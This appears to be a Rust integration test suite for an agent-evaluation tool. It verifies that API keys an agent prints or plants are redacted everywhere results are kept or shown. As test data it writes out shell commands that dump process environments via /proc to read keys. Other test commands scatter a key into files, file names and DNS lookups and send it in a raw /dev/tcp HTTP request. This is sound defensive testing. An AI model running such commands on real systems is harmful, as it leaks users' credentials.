//! A secret of the run that an agent prints is nowhere to be found afterwards (H21).

use std::path::{Path, PathBuf};

use serde_json::json;

use crate::common::{Home, Running, Task, shared, trial};

const SECRET: &str = "sk-test-0000EXAMPLE0000KEY";

#[test]
fn a_secret_that_is_printed_is_kept_nowhere() {
    let home = Home::new("secret");
    let Some(leak) = shared("H21/leak.sh") else { return };
    home.settings("secret_env = [\"TEST_KEY\"]\n");
    // The verifier and the reward file leak it as well.
    let test = "cat /app/leaked.json; echo \"not a number: $(cat /app/leaked.json)\" > /logs/verifier/reward.txt\n";
    home.task(&Task::script("leaky", &leak, test));
    let (skill, tasks) = (home.skill(), home.tasks());
    // Split over two writes, so that no single piece of output holds it.
    let script = format!(
        "export TEST_KEY={SECRET}; sh \"$INSTRUCTION_FILE\"; printf %s sk-test-0000; sleep 1; echo EXAMPLE0000KEY; echo $TEST_KEY >&2"
    );
    let mut command = home.command(&[
        "eval",
        "--skill",
        &skill,
        "--tasks",
        &tasks,
        "--agent",
        "command",
        "--command",
        &script,
        "--json",
        "result.json",
    ]);
    command.env("TEST_KEY", SECRET).env("SKILLDELTA_LOG", "debug");
    let ended = Running::start(command).end();
    let json = std::fs::read_to_string(home.path("result.json")).unwrap();
    let report = serde_json::from_str(&json).unwrap();
    assert!(trial(&report, "leaky", "no-skill")["error"].as_str().unwrap().contains("not a number"), "{json}");
    for trial in home.kept(1) {
        let findings = &trial.last().findings;
        assert!(findings.iter().any(|finding| finding.code == "secret_printed"), "{findings:?}");
        let log = String::from_utf8(home.blob(trial.last().agent_log)).unwrap();
        assert!(log.contains("x-api-key: ") && log.contains("apikey="), "{log}");
    }
    for (name, text) in [("out", &ended.out), ("err", &ended.err), ("json", &json)] {
        assert!(!text.contains(SECRET), "in {name}: {text}");
    }
    let files = files(&home.data());
    assert!(files.len() > 5, "{files:?}");
    let holds = |path: &PathBuf| contains(&std::fs::read(path).unwrap(), SECRET.as_bytes());
    assert_eq!(files.into_iter().filter(holds).collect::<Vec<_>>(), Vec::<PathBuf>::new());
    home.finish();
}

#[test]
fn a_provider_key_never_reaches_a_container() {
    let home = Home::new("keys");
    home.task(&Task::new("one"));
    let (skill, tasks) = (home.skill(), home.tasks());
    let script = "env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'; echo end";
    let args = ["eval", "--skill", &skill, "--tasks", &tasks, "--agent", "command", "--command", script];
    let mut command = home.command(&args);
    command.env("ANTHROPIC_API_KEY", SECRET);
    let ended = Running::start(command).end();
    assert_eq!(ended.code, 0, "{ended}");
    for trial in home.kept(1) {
        let log = String::from_utf8(home.blob(trial.last().agent_log)).unwrap();
        // Neither itself nor the mark that is left where it was taken out.
        assert!(log.ends_with("end\n") && !log.contains("sk-test") && !log.contains("[secret]"), "{log}");
        assert!(!log.contains("ANTHROPIC"), "{log}");
    }
    home.finish();
}

/// The provider's key (in small letters: it is looked up as a name as well), which the agent has from its model, and the trial's own, which
/// it has from its environment, put wherever something is kept. `hex` tells the test what the trial's own was.
const PLANT: &str = r#"K=PLANTED; T=$ANTHROPIC_API_KEY
echo "out $K $T"; echo "err $K $T" >&2
echo "a file $K $T" > notes.txt; echo x > "named-$K.txt"; echo x > "named-$T.txt"; echo x > "tests/test_$K.py"
rm "tests/test_old.py"; echo "$T" > "conftest.py"
mkdir -p "/opt/$K" && echo x > "/opt/$K/$T"; printf '#!/bin/sh\n' > "/usr/local/bin/$K"
getent hosts "$K.example.com" "$T.example.com"
exec 3<>/dev/tcp/127.0.0.1/8420; printf 'POST /v1/%s/%s HTTP/1.0\r\nx-api-key: %s\r\ncontent-length: 0\r\n\r\n' "$K" "$T" "$T" >&3; cat <&3
echo "he""x:$(printf %s "$T" | od -An -tx1 | tr -d ' \n'):hex""#;
const JUDGE: &str = r#"W=$(cat notes.txt); echo "judged $W"
printf '{"results":{"tool":{"name":"t"},"summary":{"tests":1,"passed":0,"failed":1},"tests":[{"name":"%s","status":"failed","duration":1,"message":"%s"}]}}' "$W" "$W" > /logs/verifier/ctrf.json
echo 0 > /logs/verifier/reward.txt
"#;

#[test]
fn neither_the_providers_key_nor_the_trials_own_is_kept_or_shown_anywhere() {
    let key = SECRET.to_lowercase();
    let home = Home::new("planted");
    let trees = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/agents");
    let is_claude = |entry: std::fs::DirEntry| entry.file_name().to_string_lossy().starts_with("claude-code@");
    if !std::fs::read_dir(&trees).is_ok_and(|mut entries| entries.any(|entry| entry.is_ok_and(is_claude))) {
        eprintln!("left out: the tests of the agents have not installed claude-code into {}", trees.display());
        return;
    }
    std::os::unix::fs::symlink(&trees, home.data().join("agents")).unwrap();
    let dockerfile = "RUN mkdir tests && echo x > tests/test_old.py\n".to_owned();
    home.task(&Task { dockerfile, test: JUDGE.to_owned(), memory_mb: 2048, ..Task::new("leaky") });
    let plant = json!({"name": "bash", "input": {"command": PLANT.replace("PLANTED", &key)}});
    let turns = json!([{"text": format!("I hold {key}."), "tools": [plant]}, {"text": format!("Done with {key}.")}]);
    home.write("model.json", json!({"schema": "skilldelta-model-1", "rules": [{"turns": turns}]}).to_string());
    let (skill, tasks) = (home.skill(), home.tasks());
    let given = ["eval", "--skill", &skill, "--tasks", &tasks, "--agent", "claude-code", "--json", "result.json"];
    let model = ["--upstream", "scripted", "--model", "scripted", "--scripted-model", "model.json"];
    let mut command = home.command(&[&given[..], &model].concat());
    command.env("ANTHROPIC_API_KEY", &key).env("SKILLDELTA_LOG", "debug");
    let ended = Running::start(command).end();
    assert_eq!(ended.code, 0, "{ended}");

    let mut secrets = vec![key.clone()];
    for trial in home.kept(1) {
        let result = trial.last();
        let trace = String::from_utf8(home.blob(result.trace)).unwrap();
        let hex = trace.split("hex:").nth(1).unwrap_or_else(|| panic!("{trace}"));
        secrets.push(hex.as_bytes().chunks(2).map_while(byte).map(char::from).collect());
        assert!(secrets.last().unwrap().len() > 20, "{hex}");
        let patch = String::from_utf8(home.blob(result.patch.unwrap().file)).unwrap();
        let found = serde_json::to_string(&result).unwrap();
        for (place, text, want) in [
            ("trace", &trace, "I hold [secret]."),
            ("trace", &trace, "out [secret] [secret]"),
            ("patch", &patch, "+a file [secret] [secret]"),
            ("patch", &patch, "+++ b/named-[secret].txt"),
            ("result", &found, "/opt/[secret]/[secret]"),
            ("result", &found, "[secret].example.com"),
            ("result", &found, "\"name\":\"a file [secret] [secret]\""),
            ("result", &found, "secret_printed"),
        ] {
            assert!(text.contains(want), "no {want} in {place}: {text}");
        }
    }
    // From here on nobody knows the secrets who could take them out.
    let mut all: Vec<(String, Vec<u8>)> =
        vec![("standard output".to_owned(), ended.out.into_bytes()), ("the log".to_owned(), ended.err.into_bytes())];
    let site = home.serve(&[]);
    let mut pages = vec!["/".to_owned(), "/evaluations".to_owned(), "/evaluations/1".to_owned(), "/tasks/1".to_owned()];
    pages.push("/evaluations/1/pairs/1/1".to_owned());
    pages.extend((1..=2).map(|trial| format!("/evaluations/1/trials/{trial}/patch")));
    for page in pages {
        let answer = site.get(&page);
        assert_eq!(answer.status, 200, "{page}");
        all.push((page, answer.body.into_bytes()));
    }
    all.push((
        "the events".to_owned(),
        site.events("/api/evaluations/1/events", Some("0"), |text| text.contains("event: done")).1.into_bytes(),
    ));
    site.stop();
    for format in ["json", "csv", "markdown", "html", "atif", "patch", "agentcompass", "skill-creator"] {
        let ended = home.run(&["export", "1", "--format", format, "--out", &format!("out/{format}")]);
        assert_eq!(ended.code, 0, "{ended}");
    }
    let kept = files(&home.data()).into_iter().chain(files(&home.path("out"))).chain([home.path("result.json")]);
    all.extend(kept.map(|path| {
        (path.display().to_string(), [path.display().to_string().into_bytes(), std::fs::read(path).unwrap()].concat())
    }));
    assert!(all.len() > 30, "{}", all.len());
    let holds = |(_, bytes): &&(String, Vec<u8>)| secrets.iter().any(|secret| contains(bytes, secret.as_bytes()));
    assert_eq!(all.iter().filter(holds).map(|(name, _)| name).collect::<Vec<_>>(), Vec::<&String>::new());
    home.finish();
}

fn byte(digits: &[u8]) -> Option<u8> {
    u8::from_str_radix(std::str::from_utf8(digits).ok()?, 16).ok()
}

pub(crate) fn contains(bytes: &[u8], wanted: &[u8]) -> bool {
    bytes.windows(wanted.len()).any(|window| window == wanted)
}

pub(crate) fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    // Installed agents are not copied here, but named.
    let own = entries.filter(|path| !path.is_symlink());
    own.flat_map(|path| if path.is_dir() { files(&path) } else { vec![path] }).collect()
}
